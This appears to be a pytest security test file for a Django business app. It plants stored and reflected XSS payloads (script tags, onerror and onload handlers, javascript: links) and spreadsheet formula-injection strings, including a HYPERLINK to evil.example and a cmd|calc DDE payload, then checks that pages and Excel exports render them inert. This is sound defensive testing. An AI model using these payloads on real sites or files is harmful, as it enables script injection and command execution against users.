"""What users typed is shown as text and exported as data, never run.

Stored XSS: an attack in every text column of every model of the demo company (written with
``QuerySet.update`` on the demo rows: what is tested is the output, not the forms), in the
column names and cells of an import file and in the JSON columns users fill; then every page a
user can open: every page of the URL conf without an argument (lists, boards, forms,
dashboards), the detail page of every kind of document in each of its states, and every page
their links, htmx links and redirects lead to; the home page of every role, the inbox and the
search (page and htmx drop-down) of a rep, a manager and the director, the public survey page.
A page passes when its parsed HTML holds no script, event handler, element or ``javascript:``
link of ours, its JSON data blocks (the charts) still parse, and an attack's text does appear
in it as text (so the page did show an attacked field). Reflected XSS: the same for what a
request carries (a search, list filters, a prefilled public form, a ``next`` link).

Formula injection: a formula in every text column, then every Excel export: no cell is a
formula, none starts as one would, and the text is kept."""

from __future__ import annotations

import csv
import io
import json
import re
from collections import deque
from html.parser import HTMLParser
from io import BytesIO
from urllib.parse import urlencode, urlsplit

import pytest
from django.apps import apps
from django.db import models
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat
from django.test import Client
from django.urls import Resolver404, URLPattern, URLResolver, get_resolver, resolve, reverse
from django.utils import timezone
from openpyxl import load_workbook

from foodflow.core.audit import audit_record
from foodflow.web.demo import DEMO_PASSWORD, DEMO_USERS

# --- which text is attacked ---------------------------------------------------------------------------

# Columns only the code writes, reviewed one by one: codes of the code's own vocabulary, hashes,
# computed paths. Every other text column of every model is attacked.
SYSTEM_TEXT = {
    "core.AuditEntry.*": "the hash chain; attacked through audit_record (object_repr, changes) instead",
    "core.AuditHead.*": "the chain's head hash",
    "core.DocumentSequence.*": "document type codes of the numbering",
    "core.StageEvent.*": "workflow, action and state codes",
    "core.Attachment.content_type": "set from the sniffed kind, never from the upload",
    "core.Attachment.sha256": "a digest",
    "core.Attachment.object_type": "a model label",
    "core.Attachment.object_id": "a primary key",
    "core.Notification.kind": "a notification kind code",
    "core.Notification.url": "reverse() of our own pages",
    "core.NotificationPreference.kind": "a notification kind code",
    "accounts.OrgUnit.path": "computed from the tree",
    "accounts.User.password": "a password hash",
    "catalog.Category.path": "computed from the tree",
    "sales.Quotation.language": "a language code",
    "sales.IdempotencyKey.*": "keys, endpoints and digests of replayed API calls",
    "sales.ApprovalRequest.fingerprint": "a digest",
    "contracts.RiskWarning.rule": "a risk rule code",
    "service.SurveyInvitation.token_hash": "a digest",
    "analytics.OrderFact.*": "channel and tier codes copied from the customer",
    "analytics.CustomerMonth.*": "channel and tier codes copied from the customer",
    "analytics.StageTarget.stage": "a stage code",
    "analytics.OverstayAlert.*": "stage codes, model labels, primary keys",
    "imports.MappingPreset.kind": "an import kind code",
    "imports.ImportJob.kind": "an import kind code",
    "imports.ImportJob.file_format": "csv or xlsx, from the sniffed content",
    "imports.ImportJob.encoding": "from the decoder",
    "imports.ImportIssue.code": "a problem code",
}

# (script) (attribute break-out, double quotes) (attribute break-out, single quotes); phones
# become tel: links, so they get a javascript: link too
ATTACKS = (
    "<script>alert('{mark}')</script>",
    "\"><img src=x onerror=alert('{mark}')>",
    "'><svg onload=alert('{mark}')>",
)
LINK_ATTACK = "javascript:alert('{mark}')//<script>alert('{mark}')</script>"
SHORT_ATTACK = "<ffx{number}/>"  # for a column too short for the others: an element of our own
# formulas a spreadsheet would run (the short one for short columns)
FORMULAS = (
    '=HYPERLINK("http://evil.example/{mark}","{mark}")',
    "+cmd|' /C calc'!{mark}",
    "-1+1+{mark}",
    "@SUM(1+1)*{mark}",
)
SHORT_FORMULA = "=1+{number}"
UNIQUE_ROOM = 8  # what "#" and a row's primary key add to a unique column's value


def attacked_columns() -> list[tuple[type[models.Model], models.Field]]:
    found = []
    for model in apps.get_models():
        if not model.__module__.startswith("foodflow.") or model._meta.app_label == "testing":
            continue
        label = model._meta.label
        if f"{label}.*" in SYSTEM_TEXT:
            continue
        for field in model._meta.concrete_fields:
            if not isinstance(field, models.CharField | models.TextField) or field.choices:
                continue
            if f"{label}.{field.name}" not in SYSTEM_TEXT:
                found.append((model, field))
    return found


def _unique(model, field) -> bool:
    if field.unique:
        return True
    together = [set(names) for names in model._meta.unique_together]
    together += [set(c.fields) for c in model._meta.constraints if isinstance(c, models.UniqueConstraint)]
    return any(field.name in names for names in together)


def _fitting(model, field, text: str, short: str) -> str:
    room = (field.max_length or 10_000) - (UNIQUE_ROOM if _unique(model, field) else 0)
    return text if len(text) <= room else short


def attack_for(number: int, model, field) -> str:
    pattern = LINK_ATTACK if field.name.endswith("phone") else ATTACKS[number % len(ATTACKS)]
    return _fitting(model, field, pattern.format(mark=f"ffx{number}"), SHORT_ATTACK.format(number=number))


def formula_for(number: int, model, field) -> str:
    pattern = FORMULAS[number % len(FORMULAS)]
    return _fitting(model, field, pattern.format(mark=f"ffx{number}"), SHORT_FORMULA.format(number=number))


def columns_store(make) -> dict[str, str]:
    """Every attacked column of every row gets ``make(number, model, field)`` (plus the row's
    primary key in a unique column); returns {value: column}. Document numbers too: an order
    imported from a previous system keeps its number there (``SO/2019/001``)."""
    relink = _contract_links_kept()
    values: dict[str, str] = {}
    updates: dict[type, dict] = {}
    for number, (model, field) in enumerate(attacked_columns(), start=1):
        text = make(number, model, field)
        values[text] = f"{model._meta.label}.{field.name}"
        value = Value(text)
        if _unique(model, field):  # one value a row
            value = Concat(Value(text), Value("#"), Cast("pk", output_field=CharField()), output_field=CharField())
        updates.setdefault(model, {})[field.name] = value
    for model, changes in updates.items():
        model._base_manager.update(**changes)
    relink()
    return values


def _contract_links_kept():
    """An order is under a contract by their numbers: after the numbers change, the links are
    set to the new numbers of the same documents (returns what does it)."""
    from foodflow.contracts.models import Contract, ContractOrder
    from foodflow.sales.models import SalesOrder

    orders = dict(SalesOrder.objects.filter(is_current=True).values_list("number", "pk"))
    contracts = dict(Contract.objects.order_by("pk").values_list("number", "pk"))
    links = [
        (link.pk, contracts[link.contract_number], orders[link.order_number]) for link in ContractOrder.objects.all()
    ]

    def relink():
        order_numbers = dict(SalesOrder.objects.values_list("pk", "number"))
        contract_numbers = dict(Contract.objects.values_list("pk", "number"))
        for pk, contract, order in links:
            ContractOrder.objects.filter(pk=pk).update(
                contract_number=contract_numbers[contract], order_number=order_numbers[order]
            )

    return relink


def json_text_store(admin, text_of) -> dict[str, str]:
    """Text users give that is kept in JSON, and an audit entry; ``text_of(column)`` → value."""
    from foodflow.crm.models import Customer
    from foodflow.service.models import Survey, SurveyResponse

    columns = ("crm.Customer.tags", "service.Survey.questions", "service.SurveyResponse.answers", "core.AuditEntry")
    values = {column: text_of(column) for column in columns}
    Customer.objects.update(tags=[values["crm.Customer.tags"]])
    Survey.objects.update(questions=[values["service.Survey.questions"]])
    answers = {values["service.Survey.questions"]: values["service.SurveyResponse.answers"]}
    SurveyResponse.objects.update(answers=answers)
    customer = Customer.objects.order_by("pk").first()
    audit_record(action="crm.customer_updated", actor=admin, obj=customer, changes={"note": values["core.AuditEntry"]})
    return {text: column for column, text in values.items()}


def import_store(admin, header: str, value: str) -> None:
    """An import of a file whose column names and cells hold ``header``/``value``, checked (its
    problems are kept) and its mapping saved as a preset; and a holiday (the demo has none)."""
    from foodflow.imports import services
    from foodflow.service.models import Holiday

    names = ["客户编号", "客户名称", "渠道", "大区", "负责人", header]
    rows = [[f"{value}{n}", value, value, value, value, value] for n in range(3)]
    data = io.StringIO()
    csv.writer(data).writerows([names, *rows])
    job = services.job_create(by=admin, kind="customers", name=f"{value}.csv", data=data.getvalue().encode())
    mapping = {"code": "客户编号", "name": "客户名称", "channel": "渠道", "region": "大区", "owner": "负责人"}
    services.job_map(by=admin, job=job, mapping=mapping, preset_name="preset")
    services.job_validate(by=admin, job=job)
    Holiday.objects.create(day=timezone.localdate().replace(month=1, day=1), name="holiday")


# --- reading a page -----------------------------------------------------------------------------------

LINK_ATTRIBUTES = {"href", "src", "action", "formaction", "hx-get", "hx-post", "data-url", "xlink:href"}
JSON_TYPES = {"application/json", "application/ld+json"}
RAW_SIGNS = ("<script>alert(", "<img src=x onerror", "<svg onload", "<ffx")


class Page(HTMLParser):
    """A page as a browser reads it: its text (entities decoded), its links, and what in it
    would run."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.texts: list[str] = []
        self.links: list[tuple[str, bool]] = []  # (url, fetched by htmx)
        self.runs: list[str] = []
        self.json_blocks: list[str] = []
        self._script: dict | None = None
        self.feed(html)
        self.close()
        self.problems = list(self.runs) + [f"raw {sign!r}" for sign in RAW_SIGNS if sign in html]
        for block in self.json_blocks:
            try:
                self.texts.append(json.dumps(json.loads(block), ensure_ascii=False))
            except ValueError:
                self.problems.append(f"a JSON block that does not parse: {block[:80]!r}")

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        if tag.startswith("ffx"):
            self.runs.append(f"<{tag}>")
        for name, value in attributes.items():
            self.texts.append(value)
            if name.startswith("on"):
                self.runs.append(f"<{tag} {name}={value!r}>")
            if name in LINK_ATTRIBUTES and re.sub(r"\s", "", value).lower().startswith("javascript:"):
                self.runs.append(f"<{tag} {name}={value!r}>")
        for name in ("href", "hx-get"):
            if attributes.get(name):
                self.links.append((attributes[name], name == "hx-get"))
        if tag == "script" and not attributes.get("src"):
            self._script = {"type": attributes.get("type", "").lower(), "text": []}

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            text = "".join(self._script["text"])
            if self._script["type"] in JSON_TYPES:
                self.json_blocks.append(text)
            elif "alert(" in text:
                self.runs.append(f"<script>{text[:80]}</script>")
            self._script = None

    def handle_data(self, data):
        (self._script["text"] if self._script is not None else self.texts).append(data)

    def shown(self, attacks: re.Pattern) -> set[str]:
        return set(attacks.findall("\n".join(self.texts)))


# --- the pages ----------------------------------------------------------------------------------------

NOT_PAGES = re.compile(r"export|pdf|report\.xlsx|logout|language|notifications/read|attachments/|/scan/|^/api/")
EVERY_ROLE = "every_role"  # a user holding every role: sees nearly every page (then each demo user in turn)
# The detail page of each kind of document in each of its states (other states show other fields).
STATE_PAGES = [
    ("crm:lead_detail", "crm.Lead", "stage"),
    ("crm:customer_detail", "crm.Customer", "status"),
    ("catalog:product_detail", "catalog.Product", "status"),
    ("catalog:price_list_detail", "catalog.PriceList", "kind"),
    ("inventory:lot_detail", "inventory.Lot", "status"),
    ("sales:inquiry_detail", "sales.Inquiry", "state"),
    ("sales:quotation_detail", "sales.Quotation", "state"),
    ("sales:order_detail", "sales.SalesOrder", "state"),
    ("sales:delivery_detail", "sales.Delivery", "state"),
    ("sales:invoice_detail", "sales.Invoice", "state"),
    ("sales:payment_detail", "sales.Payment", "method"),
    ("sales:return_detail", "sales.CustomerReturn", None),
    ("contracts:detail", "contracts.Contract", "state"),
    ("contracts:template_detail", "contracts.ContractTemplate", None),
    ("contracts:dispute_detail", "contracts.Dispute", "state"),
    ("service:complaint_detail", "service.Complaint", "state"),
    ("service:recall_detail", "service.Recall", "state"),
    ("feedback:suggestion_detail", "service.Suggestion", "state"),
    ("analytics:scorecard", "analytics.Scorecard", "state"),
    ("accounts:user_detail", "accounts.User", None),
    ("imports:job", "imports.ImportJob", "state"),
]
INSTANCES = 1  # objects visited per detail page reached by a link (start pages: each state)


def _patterns(resolver=None, prefix="", namespace=""):
    """(route, URL name with its namespace) of every pattern of the URL conf."""
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _patterns(entry, prefix + str(entry.pattern), inner)
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern), f"{namespace}{entry.name or ''}"


def start_pages() -> list[str]:
    """Every page of the URL conf without an argument, then each document in each state."""
    pages = ["/" + route for route, _name in _patterns() if "<" not in route and not NOT_PAGES.search("/" + route)]
    for name, label, state in STATE_PAGES:
        rows = apps.get_model(label)._base_manager.order_by("pk")
        picked = {getattr(row, state) if state else None: row.pk for row in rows.only("pk", *[state] if state else [])}
        pages += [reverse(name, args=[pk]) for pk in picked.values()]
    return pages


def page_key(path: str) -> tuple[str, str] | None:
    """(URL name with its slug arguments, the object's id): each dashboard is its own page."""
    try:
        match = resolve(path)
    except Resolver404:
        return None
    values = [str(value) for value in match.kwargs.values()]
    slugs, objects = [v for v in values if not v.isdigit()], [v for v in values if v.isdigit()]
    return ":".join([match.view_name, *slugs]), "/".join(objects)


class Visitor:
    """A signed-in client per demo user and one of a user holding every role, and what each
    one's page frame (header, menu) shows."""

    def __init__(self):
        from foodflow.accounts.models import OrgUnit, Role, User

        everyone = User.objects.create_user(EVERY_ROLE, password=DEMO_PASSWORD, org_unit=OrgUnit.objects.get(code="HQ"))
        everyone.roles.set(Role.objects.all())
        self.order = [EVERY_ROLE, *(user[0] for user in DEMO_USERS)]
        self.clients: dict[str, Client] = {}
        self.frames: dict[str, set] = {}
        for username in self.order:
            client = Client(raise_request_exception=False)
            response = client.post("/accounts/login/", {"username": username, "password": DEMO_PASSWORD})
            assert response.status_code == 302, username
            self.clients[username] = client

    def get(self, path: str, *, htmx: bool = False):
        """(user, response) of the first user the page answers other than 403/404."""
        headers = {"HX-Request": "true"} if htmx else {}
        for username in self.order:
            response = self.clients[username].get(path, headers=headers)
            if response.status_code not in (403, 404):
                break
        return username, response

    def frame(self, username: str, attacks) -> set:
        """The attacks a page of no stored text shows this user (their name in the header)."""
        if username not in self.frames:
            page = self.clients[username].get(reverse("accounts:password_change"))
            self.frames[username] = Page(page.content.decode()).shown(attacks)
        return self.frames[username]


class Report:
    def __init__(self, visitor: Visitor, attacks: dict[str, str]):
        self.visitor, self.columns = visitor, attacks
        # one pass over a page finds every attack in it (a unique column's value adds "#pk")
        self.attacks = re.compile("|".join(re.escape(attack) for attack in sorted(attacks, key=len, reverse=True)))
        self.pages: dict[str, tuple[str, set]] = {}  # page → (URL name, attacks shown beyond its frame)
        self.problems: list[str] = []
        self.errors: list[str] = []

    def inspect(self, key: str, path: str, username: str, response) -> Page:
        assert response.status_code == 200, (path, username, response.status_code)
        page = Page(response.content.decode())
        shown = page.shown(self.attacks) - self.visitor.frame(username, self.attacks)
        self.pages[key] = (resolve(urlsplit(path).path).view_name, shown)
        self.problems += [f"{path} ({username}): {problem}" for problem in page.problems]
        return page

    def shown(self) -> set[str]:
        return set().union(*(shown for _name, shown in self.pages.values()))

    def blank(self) -> list[str]:
        """Pages that showed none of the attacked text (and should have)."""
        return sorted(
            key
            for key, (name, shown) in self.pages.items()
            if not shown and name not in SHOWS_NO_STORED_TEXT and name.rsplit(":", 1)[0] not in SHOWS_NO_STORED_TEXT
        )


def crawl(report: Report) -> None:
    """Every start page, and every page their links, htmx links and redirects lead to: a page
    without an object once, a page of an object for ``INSTANCES`` objects (start pages all)."""
    queue = deque((path, False, True) for path in start_pages())
    tried: set[tuple[str, bool]] = set()
    instances: dict[tuple[str, bool], set[str]] = {}
    while queue:
        path, htmx, start = queue.popleft()
        key = page_key(urlsplit(path).path)
        if key is None or (path, htmx) in tried:
            continue
        name, obj = key
        seen = instances.setdefault((name, htmx), set())
        if not start and (obj in seen or len(seen) >= (INSTANCES if obj else 1)):
            continue
        tried.add((path, htmx))
        username, response = report.visitor.get(path, htmx=htmx)
        if response.status_code >= 500:
            report.errors.append(f"{path} ({username}): {response.status_code}")
        elif response.status_code in (301, 302):
            queue.append((response["Location"], htmx, False))
        elif response.status_code == 200 and response["Content-Type"].startswith("text/html"):
            seen.add(obj)
            page = report.inspect(f"{path}{' (htmx)' if htmx else ''}", path, username, response)
            for link, by_htmx in page.links:
                target = urlsplit(link)
                ours = not target.netloc and target.path.startswith("/")
                if ours and not NOT_PAGES.search(target.path) and not target.path.startswith(("/static/", "/media/")):
                    queue.append((link.split("#")[0], by_htmx, False))


# Pages that show no stored text of their own (beyond the page frame) unless asked something:
# what is checked on them is that nothing runs.
SHOWS_NO_STORED_TEXT = {
    "accounts:password_change": "a password form",
    "accounts:profile": "the user's own name, as in the page frame",
    "analytics:dashboard_of": "figures",
    "sales:policy_create": "a new policy form",
    "accounts:role_create": "a new role form",
    "analytics:kpi_scheme_new": "a new scheme form",
    "analytics:monitoring": "stage times",
    "analytics:monthly_report": "a month form",
    "analytics:process": "the process map of the code's workflows",
    "analytics:process_flow": "the process map of the code's workflows",
    "analytics:stage_targets": "stage codes and hours",
    "analytics:teamwork": "ratings to give",
    "catalog:price_list_create": "a new price list form",
    "contracts:risk_policy": "numbers",
    "contracts:template_new": "a new template form",
    "crm:report_create": "a new report form",
    "service:survey_new": "a new survey form",
    "service:credits_to_issue": "none to issue in the demo",
    "service_public:complaint": "a public form",
    "service_public:suggestion": "a public form",
    "web:search": "nothing asked (asked below)",
    "web:notifications": "a user holding every role has no notification (other users' inboxes below)",
    "imports:preview": "shows a file's cells only for a mapping (asked for one below)",
    "web:area": "the menu of an area",
}


# --- the tests ----------------------------------------------------------------------------------------


@pytest.fixture
def visitor(demo):
    """Every demo user signed in before the attacks (user names are attacked too)."""
    return Visitor()


@pytest.fixture
def admin(demo):
    from foodflow.accounts.models import User

    return User.objects.get(username="admin")


def test_stored_attacks_in_every_text_column_are_shown_as_text_on_every_page(visitor, admin):
    from foodflow.imports.models import ImportJob
    from foodflow.sales.models import QuotationLine
    from foodflow.service.models import Survey
    from foodflow.service.surveys import survey_invite

    header, cell = "<script>alert('header')</script>", "\"><img src=x onerror=alert('cell')>"
    import_store(admin, header, cell)
    attacks = {header: "an import file's column", cell: "an import file's cell", **columns_store(attack_for)}
    attacks.update(json_text_store(admin, lambda column: f"<script>alert('{column}')</script>"))
    report = Report(visitor, attacks)

    crawl(report)
    # the home page of every role; the inbox and the search (page and htmx drop-down) of a rep,
    # a manager and the director; the price of a quotation line and an import's preview (htmx)
    line = QuotationLine.objects.select_related("quotation").first()
    price = {"prefix": "lines-0", "customer": line.quotation.customer_id, "lines-0-product": line.product_id}
    price["lines-0-quantity"] = "10"
    job = ImportJob.objects.get(kind="customers")
    pages = [(username, "/", False) for username in visitor.order if username not in ("rep2", "rep3", "manager2")]
    for username in ("rep", "manager", "director"):
        pages += [(username, "/notifications/", False), (username, "/search/?q=ffx", False)]
        pages.append((username, "/search/?q=ffx", True))
    pages.append((EVERY_ROLE, f"{reverse('sales:line_price')}?{urlencode(price)}", True))
    mapping = {"map_code": "客户编号", "map_name": header, "map_preferences": "客户名称"}
    pages.append((EVERY_ROLE, f"{reverse('imports:preview', args=[job.pk])}?{urlencode(mapping)}", True))
    for username, path, htmx in pages:
        response = visitor.clients[username].get(path, headers={"HX-Request": "true"} if htmx else {})
        report.inspect(f"{path} {username}{' (htmx)' if htmx else ''}", path, username, response)
    # the public survey page
    survey = Survey.objects.filter(is_active=True).first()
    _invitation, token = survey_invite(survey=survey, customer=line.quotation.customer, contact_name="x")
    path = reverse("service_public:survey", args=[token])
    report.inspect(path, path, "rep", Client().get(path))

    assert not report.errors, report.errors
    assert not report.problems, report.problems[:20]
    assert not report.blank(), f"pages that showed none of the attacked text: {report.blank()}"
    shown = report.shown()
    print(
        f"\nstored XSS: {len(attacks)} attacks, {len(report.pages)} pages, "
        f"{len(shown)} attacks seen as text; never seen: {sorted(attacks[a] for a in set(attacks) - shown)}"
    )


REFLECTED = "\"'><script>alert('reflected')</script><img src=x onerror=alert('reflected')>"


def test_what_a_request_carries_is_shown_as_text_and_never_becomes_a_link(visitor):
    """Reflected XSS: a search, the filters of the lists, the public form's prefill from a
    delivery note's QR code, and a ``next`` that is a javascript: link."""
    from foodflow.sales.models import SalesOrder

    client = visitor.clients[EVERY_ROLE]
    pages = [
        (client, f"/search/?{urlencode({'q': REFLECTED})}", {}),
        (client, f"/search/?{urlencode({'q': REFLECTED})}", {"HX-Request": "true"}),
    ]
    for path in (
        "/crm/customers/",
        "/crm/leads/",
        "/catalog/products/",
        "/sales/orders/",
        "/service/",
        "/contracts/",
        "/audit/",
    ):
        pages.append((client, f"{path}?{urlencode({'q': REFLECTED, 'page': REFLECTED, 'sort': REFLECTED})}", {}))
    public = f"{reverse('service_public:complaint')}?{urlencode({'delivery': REFLECTED, 'lot': REFLECTED})}"
    pages.append((Client(), public, {}))
    report = Report(visitor, {REFLECTED: "the request"})
    for who, path, headers in pages:
        report.inspect(path, path, EVERY_ROLE, who.get(path, headers=headers))
    order = SalesOrder.objects.order_by("pk").first()
    close = reverse("sales:order_close_short", args=[order.pk])
    answer = client.post(f"{close}?{urlencode({'next': 'javascript:alert(1)//'})}", {"reason": ""})

    assert not report.problems, report.problems[:10]
    assert not report.blank(), report.blank()  # the search and the filters show what was asked
    assert answer.status_code == 200  # the form again, with its way back
    assert not Page(answer.content.decode()).problems


# --- exports ------------------------------------------------------------------------------------------

# exports of one document: URL name → the model of its argument
EXPORTS_OF = {"catalog:price_list_items_export": "catalog.PriceList", "imports:report": "imports.ImportJob"}


def export_queries(name: str) -> list[str]:
    """The query strings an export is asked with (as its page's buttons send them)."""
    if name == "analytics:monthly_report":
        return ["format=xlsx"]
    if name == "analytics:monitoring_export":
        return ["table=stages", "table=breaches"]
    if name == "analytics:sales_export":
        return ["", "by=customer", "by=product", "by=rep"]
    if name == "analytics:scorecards_export":  # the period of the demo's scorecards
        card = apps.get_model("analytics.Scorecard").objects.order_by("pk").first()
        return [urlencode({"period": card.period, "start": card.period_start.isoformat()})]
    return [""]


# exports that show no stored text: what is checked on them is that no cell is a formula
NO_STORED_TEXT = {
    "/analytics/monitoring/export/?table=stages": "hours by stage",
    "/analytics/sales/export/": "figures by month",
    "/service/credits/export/": "the demo has no credit to issue",
}
# what a spreadsheet reads as a formula when it is typed in (foodflow.core.exports.FORMULA_START)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def export_urls() -> list[str]:
    """Every Excel export of the URL conf (every route named or ending so), with its query."""
    found = []
    for route, name in _patterns():
        if route.startswith("api/") or not (re.search(r"export|\.xlsx", route) or name == "analytics:monthly_report"):
            continue
        if "<" in route:
            assert name in EXPORTS_OF, f"{name}: the export of a document needs its model in EXPORTS_OF"
            pk = apps.get_model(EXPORTS_OF[name])._base_manager.order_by("pk").values_list("pk", flat=True).first()
            path = reverse(name, args=[pk])
        else:
            path = "/" + route
        found += [f"{path}?{query}" if query else path for query in export_queries(name)]
    return found


def test_formulas_in_every_text_column_are_exported_as_text(visitor, admin):
    import_store(admin, '=HYPERLINK("http://evil.example","header")', "@SUM(1+1)*cmd|' /C calc'!A0")
    formulas = columns_store(formula_for)
    formulas.update(json_text_store(admin, lambda column: f"+cmd|' /C calc'!{column}"))
    exports, kept = 0, {}
    for path in export_urls():
        username, response = visitor.get(path)
        assert response.status_code == 200, (path, username, response.status_code)
        workbook = load_workbook(BytesIO(response.content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert cells, path
        exports += 1
        running = [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
        assert not running, f"{path}: formulas in {running[:5]}"
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        # a spreadsheet would read these as formulas were they typed in: they start with an apostrophe
        assert not [text for text in texts if text.startswith(FORMULA_START)], path
        kept[path] = {text[1:].split("#")[0] for text in texts if text.startswith("'")} & set(formulas)
    without = [path for path, found in kept.items() if not found and path not in NO_STORED_TEXT]
    assert not without, f"exports that kept none of the formulas as text: {without}"
    seen = set().union(*kept.values())
    print(f"\nformula injection: {len(formulas)} formulas, {exports} exports, {len(seen)} seen as text")
